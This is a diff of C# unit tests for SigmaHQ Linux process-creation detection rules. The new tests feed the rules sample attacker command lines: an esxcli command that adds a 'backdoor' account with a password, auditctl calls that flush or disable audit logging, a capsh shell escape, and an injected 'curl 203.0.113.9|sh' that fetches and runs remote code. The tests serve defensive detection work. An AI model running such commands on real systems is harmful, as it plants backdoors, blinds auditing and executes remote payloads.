@@ -23,7 +23,7 @@ public sealed class SigmaHqLinuxProcessCreationTests
     public void Folder_LoadsEveryRuleButThoseReadingALogonSession()
     {
         var set = Set.Value;
-        Assert.Equal(36, set.Rules.Count);
+        Assert.Equal(58, set.Rules.Count);
         Assert.All(set.Rules, r => Assert.Equal([EventKinds.RuntimeProcess], r.Kinds));
 
         var failures = set.Errors.ToDictionary(e => Path.GetFileNameWithoutExtension(e.File), e => e.Reason, StringComparer.Ordinal);
@@ -186,6 +186,46 @@ public sealed class SigmaHqLinuxProcessCreationTests
         Assert.True(imds.Fires(Format, Exec("/usr/bin/curl", Fetch, parent: null)));
         Assert.False(imds.Fires(Format, Exec("/usr/bin/curl", Fetch, "/usr/bin/amazon-ssm-agent", null)));
         Assert.False(imds.Fires(Format, Exec("/usr/bin/curl", "-s http://169.254.169.254/latest/meta-data/instance-id", "/bin/bash", null)));
+    }
+
+    [Fact]
+    public void EsxiAccountCreation_IsEsxcliSystemAccountAdd()
+    {
+        var rule = Rule("b28e4eb3-8bbc-4f0c-819f-edfe8e2f25db");
+
+        Assert.True(rule.Fires(Format, Exec("/bin/esxcli", "system account add -i backdoor -p Secret1! -c Secret1!", parent: "/bin/sh", pod: false)));
+        Assert.False(rule.Fires(Format, Exec("/bin/esxcli", "system account list", pod: false)));
+    }
+
+    [Fact]
+    public void AuditctlDisabled_FlushIsCaseSensitive_AsTheRuleWritesIt()
+    {
+        // ' -D' is |cased: auditctl's -d (delete one rule) is not a flush.
+        var rule = Rule("b5d3f2a1-9e4c-4b7d-a8c6-3e2f1d0b5a9c");
+
+        Assert.True(rule.Fires(Format, Exec("/usr/sbin/auditctl", "-D", pod: false)));
+        Assert.True(rule.Fires(Format, Exec("/usr/sbin/auditctl", "-e 0", pod: false, user: null)));
+        Assert.False(rule.Fires(Format, Exec("/usr/sbin/auditctl", "-d exit,always -F arch=b64 -S openat", pod: false)));
+    }
+
+    [Fact]
+    public void CapshShell_EndsWithDashDash()
+    {
+        var rule = Rule("db1ac3be-f606-4e3a-89e0-9607cbe6b98a");
+
+        Assert.True(rule.Fires(Format, Exec("/usr/sbin/capsh", "--", user: "nobody", uid: 65534)));
+        Assert.False(rule.Fires(Format, Exec("/usr/sbin/capsh", "--print")));
+    }
+
+    [Fact]
+    public void SparkShellInjection_NamesItsParentWithABackslash_AndMatchesNoLinuxPath()
+    {
+        // SigmaHQ writes ParentImage|endswith '\bash': no Linux path ends so, loaded as written it matches nothing real.
+        var rule = Rule("c8a5f584-cdc8-42cc-8cce-0398e4265de3");
+
+        Assert.False(rule.Fires(Format, Exec("/usr/bin/id", "-Gn `curl 203.0.113.9|sh`", "/bin/bash", "-c \"id -Gn `curl 203.0.113.9|sh`\"")));
+        Assert.True(RuleTesting.One(SigmaIdp.RuleText("product: linux\ncategory: process_creation", "selection:\n  ParentImage|endswith: /bash\n  CommandLine|contains: 'id -Gn `'\ncondition: selection"))
+            .Fires(Format, Exec("/usr/bin/id", "-Gn `curl 203.0.113.9|sh`", "/bin/bash", "-c \"id -Gn `curl 203.0.113.9|sh`\"")));
     }
 
     [Fact]
